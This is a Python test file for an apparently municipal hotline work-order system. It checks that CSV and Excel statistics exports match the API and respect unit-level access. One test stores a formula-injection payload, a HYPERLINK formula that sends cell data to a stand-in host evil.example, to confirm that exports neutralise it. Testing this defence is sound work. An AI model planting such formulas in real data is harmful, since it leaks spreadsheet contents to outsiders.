"""Exports read back with csv / openpyxl hold exactly the API's numbers."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from stats.domain import KPIS
from tests.stats import scenario

QUERY = "from=2026-11-01&to=2026-12-01&group_by=unit&include_sub_units=true"
HEADERS = ["承办单位编码", "承办单位名称", *(k.label for k in KPIS)]


async def download(api, path: str, user: str = "supervisor") -> tuple[bytes, str]:
    await api.login(user)
    resp = await api.client.get(path, headers={"Authorization": f"Bearer {api.tokens[user]}"})
    body = await resp.read()
    assert resp.status == 200, body
    assert "attachment" in resp.headers["Content-Disposition"]
    return body, resp.headers["Content-Type"]


def api_values(rows: list[dict]) -> list[list]:
    return [[r["key"], r["name"], *(r[k.name] for k in KPIS)] for r in rows]


async def test_kpi_csv_and_xlsx_equal_the_api(api, clock):
    await scenario.build(api, clock)
    rows = (await api.call("GET", f"/api/v1/stats/kpis?{QUERY}", "supervisor"))["rows"]
    expected = api_values(rows)

    body, content_type = await download(api, f"/api/v1/stats/kpis.csv?{QUERY}")
    assert content_type == "text/csv; charset=utf-8" and body.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert table[0] == HEADERS
    parsed = [
        [key or None, name, *(float(v) if v else None for v in values)]
        for key, name, *values in table[1:]
    ]
    assert parsed == expected  # exact equality: floats are written with repr()

    body, content_type = await download(api, f"/api/v1/stats/kpis.xlsx?{QUERY}")
    assert content_type.startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    cells = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert list(cells[0]) == HEADERS
    assert cells[1:] == expected
    # rates show as percentages; the stored value is the fraction
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet.cell(row=2, column=3 + 5).number_format == "0.00%"


async def test_order_export_matches_the_order_list(api, clock):
    numbers = await scenario.build(api, clock)
    listed = await api.call("GET", "/api/v1/orders?page_size=500", "supervisor")
    by_number = {o["number"]: o for o in listed["items"]}
    body, _ = await download(api, "/api/v1/stats/orders.xlsx?from=2026-11-01&to=2026-12-01")
    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert header[:3] == ["工单编号", "登记时间", "热线"]
    exported = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert set(exported) == set(by_number) == set(numbers.values())
    o1 = exported[numbers["O1"]]
    assert o1["状态"] == "已办结" and o1["重办次数"] == 1 and o1["主办单位"] == "市城管局(CGJ)"
    assert o1["满意度"] == "满意" and o1["是否解决"] == "是"
    assert exported[numbers["O3"]]["退单次数"] == 1 and exported[numbers["O3"]]["延期次数"] == 1
    for number, row in exported.items():
        assert row["热线"] == by_number[number]["hotline"]
        assert row["登记时间"] == by_number[number]["created_at"][:19].replace("T", " ")

    # a unit user exports only the orders it may see (ZJJ: O3 was returned, O7, O9)
    body, _ = await download(api, "/api/v1/stats/orders.csv?from=2026-11-01&to=2026-12-01", "zjj")
    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1:]
    assert {line[0] for line in lines} == {numbers["O7"], numbers["O9"]}


HOSTILE = {
    "content": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "address": "=1+2",
    "title": "-2+3 楼道漏水",
}


async def test_exported_cells_never_become_formulas(api, clock):
    """Citizens write contents, addresses and titles; a supervisor opens the file: a cell
    starting with = + - @ tab or CR is text in both formats (issue 16)."""
    number = (await api.register(**HOSTILE))["number"]
    period = "from=2026-11-01&to=2026-12-01"

    body, _ = await download(api, f"/api/v1/stats/orders.csv?{period}")
    header, *rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    row = dict(zip(header, next(r for r in rows if r[0] == number), strict=True))
    assert row["诉求内容"] == "'" + HOSTILE["content"]
    assert row["地址"] == "'=1+2" and row["标题"] == "'-2+3 楼道漏水"
    for line in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)

    body, _ = await download(api, f"/api/v1/stats/orders.xlsx?{period}")
    assert b"<f>" not in _sheet_xml(body)
    sheet = load_workbook(io.BytesIO(body)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == number)
    cells = dict(zip(header, row, strict=True))
    for column, text in (("诉求内容", "content"), ("地址", "address"), ("标题", "title")):
        cell = cells[column]
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", HOSTILE[text], True)


def _sheet_xml(body: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        return b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
